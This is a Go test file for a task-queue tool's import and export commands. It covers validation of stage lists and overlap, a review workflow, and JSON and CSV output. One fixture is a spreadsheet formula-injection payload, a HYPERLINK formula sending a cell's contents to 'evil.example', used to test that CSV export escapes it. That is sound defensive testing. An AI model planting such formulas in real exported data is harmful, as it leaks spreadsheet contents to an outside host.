package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/taskd/taskd/cmd/taskd/internal/exportfile"
	"github.com/taskd/taskd/tasks"
)

// TestImportRejectsBadWorkflows: a bad stage list or overlap is reported with
// its line, and nothing is imported.
func TestImportRejectsBadWorkflows(t *testing.T) {
	t.Parallel()
	s := newImportSetup(t)
	path := s.file(t, "bad.jsonl", `{"category":"desk","title":"fine","stages":["edit","review"],"overlap":2}
{"category":"desk","title":"capital","stages":["Edit"]}
{"category":"desk","title":"twice","stages":["edit","edit"]}
{"category":"desk","title":"none","overlap":0}
{"category":"desk","title":"many","overlap":10}
{"category":"desk","title":"nine","stages":["a","b","c","d","e","f","g","h","i"]}
`)
	stdout, stderr, code := runApp(t, s.env, "import", path)
	if code != exitFailure {
		t.Errorf("exit %d, want %d\nstdout: %s\nstderr: %s", code, exitFailure, stdout, stderr)
	}
	for _, want := range []string{
		"5 of 6 records rejected",
		`line 2: stage "Edit" must be lowercase letters`,
		`line 3: stage "edit" is listed twice`,
		"line 4: overlap must be 1..9, got 0",
		"line 5: overlap must be 1..9, got 10",
		"line 6: at most 8 stages, got 9",
		"nothing imported",
	} {
		if !strings.Contains(stderr, want) {
			t.Errorf("stderr does not mention %q:\n%s", want, stderr)
		}
	}
	if strings.Contains(stderr, "line 1:") {
		t.Errorf("stderr reports the valid line 1:\n%s", stderr)
	}
	if got := s.tasks(t); len(got) != 0 {
		t.Errorf("%d tasks imported from a bad file, want 0", len(got))
	}
	csvPath := s.file(t, "bad.csv", "category,title,stages,overlap\ndesk,fine,\"edit,review\",\ndesk,spaced,\"edit,,review\",\ndesk,odd,,two\n")
	_, stderr, code = runApp(t, s.env, "import", csvPath)
	if code != exitFailure || !strings.Contains(stderr, `line 3: stages: an empty stage name`) || !strings.Contains(stderr, `line 4: overlap: want an integer, got "two"`) {
		t.Errorf("CSV: exit %d\n%s", code, stderr)
	}
	if got := s.tasks(t); len(got) != 0 {
		t.Errorf("%d tasks imported from a bad CSV file, want 0", len(got))
	}
}

// TestImportAndExportAWorkflow imports tasks with their own stages and
// overlap, works them through the store (an edit, a review that sends back,
// the edit again, an approval; one result of a group), and exports the
// results: each carries its stage, decision, notes and group, in JSON lines
// and, with -workflow, in CSV; a plain task's result carries none.
func TestImportAndExportAWorkflow(t *testing.T) {
	t.Parallel()
	s := newImportSetup(t)
	path := s.file(t, "tasks.csv", "category,title,key,stages,overlap\n"+
		"desk,story,s1,\"edit, review\",\n"+
		"labels,photo,p1,,3\n"+
		"news,plain,n1,[],\n")
	if stdout, stderr, code := runApp(t, s.env, "import", path); code != exitOK {
		t.Fatalf("import: exit %d\nstdout: %s\nstderr: %s", code, stdout, stderr)
	}
	ctx := t.Context()
	var rows []struct {
		ID      int64        `db:"id"`
		Title   string       `db:"title"`
		Stages  tasks.Stages `db:"stages"`
		GroupID *int64       `db:"group_id"`
		Overlap int          `db:"overlap"`
	}
	if err := s.store.DB().SelectContext(ctx, &rows, `SELECT id, title, stages, group_id, overlap FROM tasks ORDER BY id`); err != nil {
		t.Fatal(err)
	}
	// The group's other tasks come after the file's.
	if len(rows) != 5 || rows[0].Title != "story" || !slices.Equal(rows[0].Stages, []string{"edit", "review"}) || rows[0].GroupID != nil ||
		rows[2].Title != "plain" || rows[2].Stages != nil || rows[2].GroupID != nil || rows[2].Overlap != 1 {
		t.Fatalf("imported tasks: %+v; want story with stages, photo three times, plain", rows)
	}
	story, photo, plain := rows[0].ID, rows[1].ID, rows[2].ID
	for _, r := range []int{1, 3, 4} {
		if r := rows[r]; r.Title != "photo" || r.GroupID == nil || *r.GroupID != photo || r.Overlap != 3 || r.Stages != nil {
			t.Fatalf("photo's group: %+v", rows)
		}
	}

	editor := func(name string, cats ...string) *tasks.Editor {
		_, hash := tasks.NewToken()
		e, err := s.store.CreateEditor(ctx, tasks.CreateEditorParams{Name: name, Categories: cats, TokenHash: hash})
		if err != nil {
			t.Fatal(err)
		}
		return e
	}
	ann, bob := editor("ann", "desk", "labels", "news"), editor("bob", "desk")
	submit := func(id int64, ed *tasks.Editor, decision, notes string) {
		t.Helper()
		task, err := s.store.GetTask(ctx, id)
		if err != nil {
			t.Fatal(err)
		}
		c, err := s.store.Claim(ctx, tasks.ClaimParams{TaskID: id, Fence: task.Fence, Status: task.Status,
			Holder: ed.Holder(), EditorID: ed.ID, Lease: time.Minute})
		if err != nil {
			t.Fatalf("claim %d for %s: %v", id, ed.Name, err)
		}
		if _, err := s.store.Submit(ctx, tasks.SubmitParams{TaskID: id, Fence: c.Fence, Holder: ed.Holder(),
			Result: json.RawMessage(`{"by":"` + ed.Name + `"}`), Decision: decision, Notes: notes}); err != nil {
			t.Fatalf("submit %d for %s: %v", id, ed.Name, err)
		}
	}
	// Notes a spreadsheet would take for a formula: kept as they are, and
	// quoted in CSV.
	formula := `=HYPERLINK("http://evil.example/?"&A2,"open")`
	submit(story, ann, "", "")
	submit(story, bob, tasks.DecisionSendBack, formula)
	submit(story, ann, "", "")
	submit(story, bob, tasks.DecisionApprove, "")
	submit(photo, ann, "cat", "")
	submit(plain, ann, "", "")

	type line struct {
		TaskID   int64  `json:"task_id"`
		Stage    string `json:"stage"`
		Decision string `json:"decision"`
		Notes    string `json:"notes"`
		GroupID  int64  `json:"group_id"`
		Overlap  int    `json:"overlap"`
	}
	want := []line{
		{story, "edit", "", "", 0, 0},
		{story, "review", "send_back", formula, 0, 0},
		{story, "edit", "", "", 0, 0},
		{story, "review", "approve", "", 0, 0},
		{photo, "", "cat", "", photo, 3},
		{plain, "", "", "", 0, 0},
	}
	stdout, stderr, code := runApp(t, s.env, "export")
	if code != exitOK {
		t.Fatalf("export: exit %d\n%s", code, stderr)
	}
	lines := strings.Split(strings.TrimSuffix(stdout, "\n"), "\n")
	if len(lines) != len(want) {
		t.Fatalf("%d lines exported, want %d:\n%s", len(lines), len(want), stdout)
	}
	for i, w := range want {
		var got line
		if err := json.Unmarshal([]byte(lines[i]), &got); err != nil || got != w {
			t.Errorf("line %d = %s (%v); want %+v", i+1, lines[i], err, w)
		}
	}
	if last := lines[len(lines)-1]; !strings.HasSuffix(last, `Z"}`) {
		t.Errorf("the plain task's line does not end at submitted_at: %s", last)
	}

	out := filepath.Join(s.dir, "results.csv")
	if _, stderr, code := runApp(t, s.env, "export", "-workflow", "-o", out); code != exitOK {
		t.Fatalf("export -workflow: exit %d\n%s", code, stderr)
	}
	recs, err := csv.NewReader(bytes.NewReader(readFile(t, out))).ReadAll()
	if err != nil || len(recs) != len(want)+1 || !slices.Equal(recs[0], exportfile.WorkflowColumns) {
		t.Fatalf("CSV: %v, %v", recs, err)
	}
	for i, w := range want {
		cells := recs[i+1][len(exportfile.Columns):]
		if w.Notes == formula {
			w.Notes = "'" + formula
		}
		if cells[0] != w.Stage || cells[1] != w.Decision || cells[2] != w.Notes ||
			(w.GroupID == 0) != (cells[3] == "") || (w.Overlap == 0) != (cells[4] == "") {
			t.Errorf("CSV row %d: workflow cells %q, want %+v", i+1, cells, w)
		}
	}
	// -append goes on in the file's columns; -workflow on a plain file is refused.
	plainOut := filepath.Join(s.dir, "plain.csv")
	if _, stderr, code := runApp(t, s.env, "export", "-o", plainOut); code != exitOK {
		t.Fatalf("export: exit %d\n%s", code, stderr)
	}
	if recs, err := csv.NewReader(bytes.NewReader(readFile(t, plainOut))).ReadAll(); err != nil || !slices.Equal(recs[0], exportfile.Columns) {
		t.Errorf("plain CSV: header %q, %v", recs[0], err)
	}
	if _, stderr, code := runApp(t, s.env, "export", "-workflow", "-o", plainOut, "-append"); code != exitUsage ||
		!strings.Contains(stderr, "has no workflow columns") {
		t.Errorf("export -workflow -append to a plain file: exit %d\n%s", code, stderr)
	}
	if _, stderr, code := runApp(t, s.env, "export", "-o", out, "-append"); code != exitOK {
		t.Errorf("export -append to a workflow file: exit %d\n%s", code, stderr)
	}
}
